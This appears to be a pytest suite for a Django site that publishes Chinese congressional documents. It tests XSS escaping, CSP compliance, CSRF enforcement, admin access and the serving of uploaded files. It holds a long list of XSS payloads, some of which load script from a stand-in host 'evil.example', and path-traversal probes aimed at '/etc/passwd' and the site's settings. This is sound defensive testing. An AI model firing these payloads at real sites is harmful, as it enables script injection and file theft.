"""Hostile input on every public page, the Content-Security-Policy the pages must satisfy, CSRF on every form,
the admin for staff only, and uploaded files served safely (documents/media.py)."""

import datetime
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from django.conf import settings
from django.contrib import admin
from django.contrib.auth.models import User
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from documents.models import Article, Attachment, Column, Meeting, Speaker

from .portal_helpers import make_article, seed_speech
from .staff_support import PASSWORD, staff_user
from .test_sanitize import HOSTILE

pytestmark = pytest.mark.django_db

PAYLOADS = HOSTILE + [
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<embed src=javascript:alert(1)>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    "<IMG SRC=`javascript:alert(1)`>",
    '<img src="x" onerror\n=alert(1)>',
    "<img src=x:alert(1) onerror=eval(src)>",
    '<div style="behavior: url(x.htc)">x</div>',
    '<p style="-moz-binding:url(http://evil.example/x.xml#x)">x</p>',
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=import href=data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<scr\x00ipt>alert(1)</script>",
    "<script\x20type=text/javascript>alert(1)</script>",
    "<script/src=//evil.example/x.js></script>",
    "<a href=javascript&colon;alert(1)>x</a>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "javascript:alert(1)",
    "{{ 7|add:42 }}{% debug %}",
    "<p <script>alert(1)</script>",
    "<a href='x' onmouseover='alert(1)'",
]
SCRIPT_URL = re.compile(r"^(javascript|vbscript|data):", re.I)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}
# Not one of these may come from content; the site's own templates use none of them.
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style", "base",
                  "template", "noscript", "textarea"}


class ExecutableFinder(HTMLParser):
    """Everything in an HTML page that could run a script or breaks the site's CSP (script-src/style-src self)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        if tag == "script":
            self.in_script = True
            if not (names.get("src") or "").startswith("/" + settings.STATIC_URL.lstrip("/")):
                self.problems.append(f"<script> not from the site's static files: {attrs}")
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in names:
            self.problems.append(f"<meta http-equiv>: {attrs}")
        if tag == "form" and (names.get("method") or "get").lower() != "get":
            self.problems.append(f"a POST form on a public page: {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"event handler {name}= on <{tag}>")
            if name == "style":
                self.problems.append(f"style= on <{tag}> (CSP style-src 'self')")
            if name in URL_ATTRIBUTES and SCRIPT_URL.match(re.sub(r"[\s\x00-\x1f]", "", value or "")):
                self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.in_script = False

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script: {data[:60]!r}")


def executable_parts(html):
    finder = ExecutableFinder()
    finder.feed(html)
    finder.close()
    return finder.problems


def assert_safe_html(response, url):
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/html"), url
    problems = executable_parts(response.content.decode())
    assert not problems, (url, problems[:5])


def test_the_finder_finds():
    """The checker itself: it must flag what the payloads would do if they reached a page unescaped."""
    for fragment in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href=" javascript:x">',
                     '<p style="color:red">', "<svg onload=alert(1)>", '<form method="post">',
                     '<a href="&#106;avascript:alert(1)">'):
        assert executable_parts(fragment), fragment
    assert not executable_parts('<script src="/static/js/site.js"></script><p class="x">&lt;script&gt;</p>')


@pytest.fixture
def hostile_site():
    """Every payload in every field a visitor sees: titles, subtitles, bodies (as HTML and as plain text),
    speaker names and positions, meeting names, document numbers, issuers, amendments, attachment names."""
    articles, speakers, meetings = [], [], []
    for n, payload in enumerate(PAYLOADS):
        # Every save drops control characters (sanitize.clean_text): NUL in the body, a vertical tab elsewhere.
        body_payload, payload = payload, payload.replace("\x00", "\x0b")
        speaker = Speaker.objects.create(name=payload[:50], position=payload[:100], organization=f"单位{n}")
        meeting = Meeting.objects.create(name=f"{payload[:180]}会议{n}")
        article = Article(
            title=payload, subtitle=payload, column=Column.objects.get(slug="news"), speaker=speaker,
            speaker_title=payload[:100], meeting=meeting, doc_number=payload[:100], issuer=payload[:200],
            amendments=[{"date": "2022-09-22", "event": payload}], status=Article.Status.PUBLISHED,
            cover_alt=payload[:200],
        )
        if n % 2:
            article.body = f"<p>正文{n}</p>{body_payload}"
        else:
            article.set_plain_text_body(f"正文{n}\n\n{payload}")
        article.date = datetime.date(2022, 9, 1 + n % 28)
        article.save()
        attachment = Attachment(article=article, title=payload[:200])
        attachment.file.save("a.txt", ContentFile(b"x"), save=False)
        attachment.save()
        articles.append(article)
        speakers.append(speaker)
        meetings.append(meeting)
    from documents.search.index.queue import apply_pending

    apply_pending()
    return articles, speakers, meetings


def test_hostile_input_in_article_pages(client, hostile_site):
    articles, _, _ = hostile_site
    for article in articles:
        payload = article.title
        response = client.get(article.get_absolute_url())
        assert_safe_html(response, payload)
        body = response.content.decode()
        # The title is shown, escaped, in the heading and in <title>.
        assert escape(payload) in body, payload
        title = re.search(r"<title>(.*?)</title>", body, re.S).group(1)
        assert escape(payload) in title, payload


def test_hostile_input_in_lists(client, hostile_site):
    articles, speakers, meetings = hostile_site
    column = reverse("documents:column", args=["news"])
    urls = ["/", reverse("documents:speaker_list"), reverse("documents:archive"),
            reverse("documents:archive_year", args=[2022]), reverse("documents:archive_month", args=[2022, 9])]
    urls += [f"{column}?page={n}" for n in range(1, len(articles) // 20 + 2)]
    urls += [f"{reverse('documents:meeting_list')}?page={n}" for n in (1,)]
    urls += [s.get_absolute_url() for s in speakers] + [m.get_absolute_url() for m in meetings]
    for url in urls:
        assert_safe_html(client.get(url), url)


def test_hostile_queries_and_results_in_search(client, hostile_site):
    for payload in PAYLOADS + ["alert", "script", "onerror"]:
        response = client.get(reverse("documents:search"), {"q": payload})
        problems = executable_parts(response.content.decode())
        assert response.status_code in (200, 400) and not problems, (payload, problems[:5])
        json_urls = ((reverse("documents:search"), {"format": "json"}), (reverse("documents:search_suggest"), {}))
        for url, params in json_urls:
            data = client.get(url, {"q": payload, **params})
            assert data["Content-Type"].startswith("application/json") and data["X-Content-Type-Options"] == "nosniff"
            json.loads(data.content)
        feed = client.get(reverse("documents:search_feed"), {"q": payload})
        assert feed.status_code == 200 and ET.fromstring(feed.content).find("channel/title").text, payload
    # The hostile titles do come back as results: they were on the page and escaped.
    response = client.get(reverse("documents:search"), {"q": "alert"})
    assert "search-result" in response.content.decode()


def test_hostile_input_in_json_and_feeds(client, hostile_site):
    articles, speakers, _ = hostile_site
    for url in [articles[0].get_absolute_url(), reverse("documents:column", args=["news"]),
                speakers[0].get_absolute_url(), reverse("documents:archive_year", args=[2022])]:
        response = client.get(url, {"format": "json"})
        assert response.status_code == 200 and response["Content-Type"].startswith("application/json"), url
        assert response["X-Content-Type-Options"] == "nosniff"
        json.loads(response.content)
    feeds = [reverse("documents:feed"), reverse("documents:column_feed", args=["news"])]
    feeds += [reverse("documents:speaker_feed", args=[s.slug]) for s in speakers[:10]]
    feeds += [reverse("documents:search_feed") + f"?q={q}" for q in ("alert", "script", "onerror", "正文")]
    for url in feeds:
        response = client.get(url)
        assert response.status_code == 200, url
        channel = ET.fromstring(response.content).find("channel")  # well-formed XML
        for item in channel.iter("item"):
            # Feed readers render <description> as HTML: it must hold no markup but its paragraphs, only escaped text.
            assert not executable_parts(item.findtext("description")), url
            assert "<" not in re.sub(r"</?p>", "", item.findtext("description")), url
    sitemap = client.get(reverse("documents:sitemap"))
    ET.fromstring(sitemap.content)


def csp_pages(client):
    article = seed_speech()
    attachment = Attachment(article=article, title="附件.pdf")
    attachment.file.save("a.pdf", ContentFile(b"%PDF-1.4"), save=False)
    attachment.save()
    article.amendments = [{"date": "2022-09-22", "event": "通过"}]
    article.save()
    make_article("第二篇", column_slug="news", date=(2021, 1, 1))
    meeting = Meeting.objects.create(name="第十届人大常委会第一次会议")
    make_article("会议文件", column_slug="documents", meeting=meeting, date=None)
    from documents.search.index.queue import apply_pending

    apply_pending()
    return [
        "/", reverse("documents:column", args=["news"]), article.get_absolute_url(),
        reverse("documents:speaker_list"), article.speaker.get_absolute_url(), reverse("documents:meeting_list"),
        meeting.get_absolute_url(), reverse("documents:archive"), reverse("documents:archive_year", args=[2022]),
        reverse("documents:search"), reverse("documents:search") + "?q=人大", reverse("documents:search") + "?q=没有的词",
        reverse("documents:search") + "?from=bad",
    ]


def test_public_pages_satisfy_the_content_security_policy(client):
    for url in csp_pages(client):
        response = client.get(url)
        assert response.status_code in (200, 400), url
        policy = response["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "style-src 'self'" in policy and "unsafe-inline" not in policy
        problems = executable_parts(response.content.decode())
        assert not problems, (url, problems)
    not_found = client.get("/articles/999999/")
    assert not_found.status_code == 404 and not executable_parts(not_found.content.decode())


# --- CSRF and the admin --------------------------------------------------------------------------------------


def admin_post_urls(article):
    """Every admin URL that accepts a POST: login, logout, password change, each model's add/change/delete and
    list (actions), the staff workflow's own pages."""
    urls = [reverse("admin:login"), reverse("admin:logout"), reverse("admin:password_change")]
    objects = {Article: article, Speaker: article.speaker, Column: article.column}
    for model in admin.site._registry:
        opts = model._meta
        prefix = f"admin:{opts.app_label}_{opts.model_name}"
        urls += [reverse(f"{prefix}_changelist")]
        if f"{opts.app_label}.add_{opts.model_name}" and model is not User:
            try:
                urls.append(reverse(f"{prefix}_add"))
            except Exception:
                pass
        instance = objects.get(model)
        if instance is not None:
            urls += [reverse(f"{prefix}_change", args=[instance.pk]), reverse(f"{prefix}_delete", args=[instance.pk])]
    urls += [reverse("admin:documents_article_upload"), reverse("admin:documents_article_body_image")]
    return urls


def test_every_post_form_needs_the_csrf_token():
    article = seed_speech()
    superuser = User.objects.create_superuser("root", password=PASSWORD)
    anonymous = Client(enforce_csrf_checks=True)
    assert anonymous.post(reverse("admin:login"), {"username": "root", "password": PASSWORD}).status_code == 403
    staff = Client(enforce_csrf_checks=True)
    staff.force_login(superuser)
    urls = admin_post_urls(article)
    assert len(urls) > 15
    for url in urls:
        response = staff.post(url, {"title": "改", "action": "delete_selected", "_selected_action": [article.pk]})
        assert response.status_code == 403, url
    article.refresh_from_db()
    assert article.title != "改" and article.deleted_at is None


def test_login_with_the_token_works():
    """The control of the test above: the same login with the token from the form succeeds."""
    User.objects.create_superuser("root", password=PASSWORD)
    client = Client(enforce_csrf_checks=True)
    page = client.get(reverse("admin:login"))
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode()).group(1)
    response = client.post(reverse("admin:login"), {"username": "root", "password": PASSWORD,
                                                    "csrfmiddlewaretoken": token})
    assert response.status_code == 302


def test_admin_is_for_staff_only(client):
    article = seed_speech()
    User.objects.create_user("visitor", password=PASSWORD)  # an account without is_staff
    assert client.login(username="visitor", password=PASSWORD)
    for url in [reverse("admin:index"), reverse("admin:documents_article_change", args=[article.pk]),
                reverse("admin:documents_article_upload"),
                reverse("admin:documents_article_preview", args=[article.pk])]:
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(reverse("admin:login")), url


# --- uploaded files ------------------------------------------------------------------------------------------


PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def store(path, content):
    from django.core.files.storage import default_storage

    return default_storage.save(path, ContentFile(content))


def attach(article, filename, content, title=None):
    attachment = Attachment(article=article, title=title or filename)
    attachment.file.save(filename, ContentFile(content), save=False)
    attachment.save()
    return attachment


def media_url(name):
    return "/" + settings.MEDIA_URL.lstrip("/") + name


def test_pictures_are_served_inline_with_their_type(client):
    name = store("images/2024/01/p.png", PNG)
    response = client.get(media_url(name))
    assert response.status_code == 200 and response["Content-Type"] == "image/png"
    assert b"".join(response.streaming_content) == PNG
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "attachment" not in response.get("Content-Disposition", "")


@pytest.mark.parametrize(
    "filename, content, expected_type",
    [
        ("report.pdf", b"%PDF-1.4 x", "application/pdf"),
        ("page.html", b"<script>alert(1)</script>", "application/octet-stream"),
        ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "application/octet-stream"),
        ("notes.txt", "说明".encode(), "text/plain; charset=utf-8"),
        ("photo.png", PNG, "image/png"),  # an attached picture is a download too
    ],
)
def test_attachments_are_downloads(client, filename, content, expected_type):
    article = seed_speech()
    attachment = attach(article, filename, content, title=f"附件-{filename}")
    response = client.get(attachment.file.url)
    assert response.status_code == 200
    assert response["Content-Type"] == expected_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''" in response["Content-Disposition"]  # the Chinese title as the file name
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert b"".join(response.streaming_content) == content


def test_svg_or_html_outside_attachments_never_inline(client):
    for name, content in [("images/x.svg", b"<svg onload=alert(1)/>"), ("covers/x.html", b"<script>1</script>")]:
        stored = store(name, content)
        response = client.get(media_url(stored))
        assert response["Content-Type"] == "application/octet-stream"
        assert response["Content-Disposition"].startswith("attachment;")


def test_attachments_of_hidden_articles_are_for_staff_only(client):
    draft = make_article("草稿", status=Article.Status.DRAFT)
    attachment = attach(draft, "draft.pdf", b"%PDF-1.4")
    assert client.get(attachment.file.url).status_code == 404
    staff_user("editor")
    assert client.login(username="editor", password=PASSWORD)
    assert client.get(attachment.file.url).status_code == 200


def test_media_paths_outside_or_missing(client):
    store("attachments/orphan.pdf", b"%PDF")  # a file no attachment row points to
    for path in ["../congress_site/settings.py", "attachments/orphan.pdf", "images/missing.png", "images/",
                 "%2e%2e/%2e%2e/etc/passwd"]:
        assert client.get(media_url(path)).status_code == 404, path
    name = store("images/p.png", PNG)
    assert client.post(media_url(name)).status_code == 405
